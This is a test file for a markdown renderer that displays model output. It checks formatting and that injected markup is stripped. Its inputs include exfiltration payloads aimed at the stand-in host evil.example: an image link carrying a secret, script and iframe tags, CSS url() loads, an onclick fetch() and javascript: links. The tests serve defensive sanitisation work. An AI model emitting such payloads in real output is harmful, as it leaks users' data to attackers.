import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/ui/markdown.ts';

/** What a reader's page holds after a model has written `text`. */
function show(text: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderMarkdown(text).join('');
  return element;
}

describe('what a model writes', () => {
  it('is shown with its emphasis, lists, tables and code', () => {
    const shown = show('**5117**\n\n1. one\n\n| n | square |\n|--:|--:|\n| 2 | 4 |\n\n```python\nprint(1)\n```');
    expect(shown.querySelector('strong')?.textContent).toBe('5117');
    expect(shown.querySelector('ol > li')?.textContent).toBe('one');
    expect(shown.querySelector('td')?.getAttribute('align')).toBe('right');
    expect(shown.querySelector('pre > code')?.textContent).toBe('print(1)\n');
  });

  it('has its headings below those of the page', () => {
    expect(show('# Big\n\n##### Small').innerHTML).toBe('<h3>Big</h3>\n<h6>Small</h6>\n');
  });

  it('keeps the blocks that are complete as they are while the last one grows', () => {
    const early = renderMarkdown('First.\n\nSec');
    const late = renderMarkdown('First.\n\nSecond.');
    expect(late[0]).toBe(early[0]);
    expect(late).toHaveLength(2);
  });

  it('shows the words for an image, and never loads one', () => {
    const shown = show('![a chart](https://evil.example/?secret) <img src="https://evil.example/x.png">');
    expect(shown.textContent?.trim()).toBe('a chart');
    expect(shown.innerHTML).not.toContain('evil.example');
  });

  it('shows words for an image that are markup as words', () => {
    expect(show('![<b>bold</b>](x)').querySelector('b')).toBeNull();
  });

  it.each([
    '<picture><source srcset="https://evil.example/a"></picture>',
    '<video src="https://evil.example/a" poster="https://evil.example/b"></video>',
    '<audio src="https://evil.example/a"></audio>',
    '<iframe src="https://evil.example/a"></iframe>',
    '<object data="https://evil.example/a"></object>',
    '<embed src="https://evil.example/a">',
    '<link rel="stylesheet" href="https://evil.example/a">',
    '<style>@import "https://evil.example/a"</style>',
    '<form action="https://evil.example/a"><input name="a"><button>Go</button></form>',
    '<svg><use href="https://evil.example/a#b"></use><image href="https://evil.example/a"/></svg>',
    '<p style="background: url(https://evil.example/a)">text</p>',
    '<table background="https://evil.example/a"><tr><td>text</td></tr></table>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<script src="https://evil.example/a"></script>',
    '<b onclick="fetch(\'https://evil.example/a\')">text</b>',
  ])('loads and sends nothing by itself: %s', (markup) => {
    expect(show(markup).innerHTML).not.toContain('evil.example');
  });

  it('has links that show where they go and open apart from the page', () => {
    const link = show('[the docs](https://docs.python.org/3/ "nicer name")').querySelector('a');
    expect(link?.title).toBe('https://docs.python.org/3/');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,hello',
    'vbscript:x',
    'blob:https://a.example/b',
    '/settings',
    '#top',
  ])('has no link to %s', (address) => {
    expect(show(`[click](${address}) <a href="${address}">click</a>`).querySelector('[href]')).toBeNull();
  });

  it('can be written to by mail', () => {
    expect(show('<mail@example.org>').querySelector('a')?.title).toBe('mailto:mail@example.org');
  });
});
